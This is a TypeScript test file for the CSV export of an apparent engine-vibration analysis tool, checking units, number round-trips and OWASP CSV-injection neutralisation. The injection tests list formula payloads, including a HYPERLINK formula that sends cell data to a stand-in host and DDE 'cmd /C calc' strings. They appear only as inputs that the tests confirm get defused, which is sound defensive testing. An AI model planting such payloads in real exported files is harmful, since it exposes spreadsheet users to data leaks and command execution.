import fc from "fast-check";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import type { AnalysisResult } from "../signal/result-schema";
import {
  isolationCsv,
  neutraliseText,
  orderCurvesCsv,
  packIndexCsv,
  spreadsheetCsv,
  type PackIndexRow,
} from "./export-csv";

// Every table is read back with papaparse's parser (RFC 4180 quoting), not with our writer's
// rules. The neutralisation rule is OWASP's "CSV Injection" guidance: no cell may begin with
// =, +, -, @, tab or carriage return (ASVS 5.0 V1.2.10 adds NUL; the line feed is our own
// addition); a negative number (`-` then a digit) is a number, not a formula.

/** The cells of the CSV text as papaparse reads them, header row included, all as text. */
const cellsOf = (csv: string) => {
  const parsed = Papa.parse<string[]>(csv, { delimiter: ",", skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
};

/** A text cell as a reader sees it (a number beside it, so an empty text is no empty line). */
const written = (text: string) => cellsOf(spreadsheetCsv(["note", "n"], [[text, 1]]))[1]![0]!;

const FORMULA_CHARS = ["=", "+", "@", "\t", "\r", "\n", "\0"];

describe("spreadsheet-safe cells (OWASP CSV Injection)", () => {
  it("prefixes the attack strings of the guidance with an apostrophe and keeps them otherwise whole", () => {
    for (const attack of [
      '=HYPERLINK("http://x.example/?leak="&A1,"click")',
      "=cmd|' /C calc'!A0",
      "+cmd",
      "-cmd",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "\t=1+1",
      "\r=1+1",
      "-1+1", // a formula that begins like a number
      "-",
      "--",
      "-.5", // not a plain number as we write them: text
      "=A1\n=B2", // a line break inside the cell must not hide the first formula
    ]) {
      expect(written(attack), JSON.stringify(attack)).toBe(`'${attack}`);
      expect(neutraliseText(attack)).toBe(`'${attack}`);
    }
  });

  it("leaves safe text alone, and a plain negative number written as text", () => {
    for (const safe of [
      "Kestrel",
      "3rd gear, warm",
      "a=b",
      "",
      " =1 (space first)",
      "'=1",
      "-3.5",
      "-1e-7",
      "-42",
    ])
      expect(written(safe), JSON.stringify(safe)).toBe(safe);
  });

  it("never touches numbers and booleans: -3.5 stays a number", () => {
    const csv = spreadsheetCsv(
      ["x", "flag"],
      [
        [-3.5, true],
        [-1e-7, false],
        [0, null],
      ],
    );
    expect(csv).toBe("x,flag\r\n-3.5,true\r\n-1e-7,false\r\n0,\r\n");
  });

  it("property: every text comes back whole or with one apostrophe, and no cell starts a formula", () => {
    const risky = fc
      .tuple(
        fc.constantFrom(
          "",
          "=",
          "+",
          "-",
          "@",
          "\t",
          "\r",
          "\n",
          "\0",
          "-1",
          "-.",
          "'",
          "-1e",
          " ",
        ),
        fc.string({ unit: "binary" }),
      )
      .map(([lead, rest]) => lead + rest);
    fc.assert(
      fc.property(risky, (text) => {
        const cell = written(text);
        expect([text, `'${text}`]).toContain(cell);
        expect(FORMULA_CHARS).not.toContain(cell[0]);
        if (cell.startsWith("-")) {
          // `-` then a digit, and the whole cell a number (a negative number, not a formula).
          expect(cell[1]).toMatch(/\d/);
          expect(Number.isFinite(Number(cell))).toBe(true);
        }
        // Text that starts safely is never changed.
        if (!["=", "+", "-", "@", ...FORMULA_CHARS].includes(text[0] ?? ""))
          expect(cell).toBe(text);
      }),
      { numRuns: 2000 },
    );
  });

  it("property: finite numbers round-trip exactly through the text", () => {
    fc.assert(
      fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (x) => {
        const cell = cellsOf(spreadsheetCsv(["x"], [[x]]))[1]![0]!;
        expect(Number(cell)).toBe(x === 0 ? 0 : x); // -0 is written as 0
      }),
      { numRuns: 2000 },
    );
  });

  it("refuses a number that is not finite (a result never holds one: it is a bug)", () => {
    expect(() => spreadsheetCsv(["x"], [[Number.NaN]])).toThrow(/finite/);
    expect(() => spreadsheetCsv(["x"], [[Number.POSITIVE_INFINITY]])).toThrow(/finite/);
  });
});

// 1 rpm = 2π/60 rad/s (SI Brochure, 9th ed.: 1 rev = 2π rad, 1 min = 60 s), so 600 rpm = 20π rad/s,
// 3000 rpm = 100π rad/s, 6 rpm = π/5 rad/s, 1.5 rpm = π/20 rad/s.
const result = {
  firingOrder: 2,
  isolation: [
    { rpm: 600, dB: -1.25, blocks: 3, aboveNoise: false },
    { rpm: 3000, dB: 18.5, blocks: 7, aboveNoise: true, method: "filter" },
  ],
  orderCurves: [
    { order: 1, points: [{ rpm: 600, crankRpm: 1.5, gearboxRpm: 6, blocks: 2 }] },
    {
      order: 2,
      points: [
        { rpm: 600, crankRpm: 6, gearboxRpm: 1.5, blocks: 3 },
        { rpm: 3000, crankRpm: 60, gearboxRpm: 0, blocks: 7 },
      ],
    },
  ],
} as unknown as AnalysisResult;

describe("the pack's tables", () => {
  it("isolation.csv: one header row with SI units, one row per bin, engine speed in rad/s", () => {
    const { data, meta, errors } = Papa.parse<Record<string, unknown>>(isolationCsv(result), {
      header: true,
      dynamicTyping: true,
      skipEmptyLines: true,
    });
    expect(errors).toEqual([]);
    expect(meta.fields).toEqual([
      "engine_speed [rad/s]",
      "isolation [dB]",
      "blocks",
      "above_noise",
      "method",
    ]);
    expect(data).toHaveLength(2);
    expect(data[0]!["engine_speed [rad/s]"]).toBeCloseTo(20 * Math.PI, 12);
    expect(data[1]!["engine_speed [rad/s]"]).toBeCloseTo(100 * Math.PI, 12);
    expect(data.map((r) => r["isolation [dB]"])).toEqual([-1.25, 18.5]);
    expect(data.map((r) => r.blocks)).toEqual([3, 7]);
    expect(data.map((r) => r.above_noise)).toEqual([false, true]);
    expect(data.map((r) => r.method)).toEqual([null, "filter"]);
  });

  it("order-curves.csv: long format, one row per (order, bin), amplitudes in rad/s 0-peak", () => {
    const { data, meta } = Papa.parse<Record<string, number>>(orderCurvesCsv(result), {
      header: true,
      dynamicTyping: true,
      skipEmptyLines: true,
    });
    expect(meta.fields).toEqual([
      "order",
      "engine_speed [rad/s]",
      "crank_amplitude [rad/s]",
      "gearbox_amplitude [rad/s]",
      "blocks",
    ]);
    expect(data.map((r) => r.order)).toEqual([1, 2, 2]);
    const expected = [
      [20 * Math.PI, Math.PI / 20, Math.PI / 5, 2],
      [20 * Math.PI, Math.PI / 5, Math.PI / 20, 3],
      [100 * Math.PI, 2 * Math.PI, 0, 7],
    ];
    data.forEach((r, i) => {
      const [speed, crank, gearbox, blocks] = expected[i]!;
      expect(r["engine_speed [rad/s]"]).toBeCloseTo(speed!, 12);
      expect(r["crank_amplitude [rad/s]"]).toBeCloseTo(crank!, 14);
      expect(r["gearbox_amplitude [rad/s]"]).toBeCloseTo(gearbox!, 14);
      expect(r.blocks).toBe(blocks);
    });
  });

  it("logs.csv neutralises the uploader's text and keeps the numbers", () => {
    const row: PackIndexRow = {
      logId: 7,
      folder: "logs/7-HYPERLINK-x",
      fileName: '=HYPERLINK("x").csv',
      condition: "run-up",
      gear: -1,
      damperVariant: "+B",
      testDate: null,
      uploadedAt: "2026-12-02T10:00:00.000Z",
      analysisId: 9,
      analysisVersion: 2,
      firingOrder: 2,
      notes: "@SUM(1)\n-cmd",
    };
    const { data } = Papa.parse<Record<string, unknown>>(packIndexCsv([row]), {
      header: true,
      dynamicTyping: true,
      skipEmptyLines: true,
    });
    expect(data[0]).toMatchObject({
      log_id: 7,
      file_name: `'=HYPERLINK("x").csv`,
      gear: -1,
      damper_variant: "'+B",
      test_date: null,
      notes: "'@SUM(1)\n-cmd",
      analysis_version: 2,
    });
  });
});
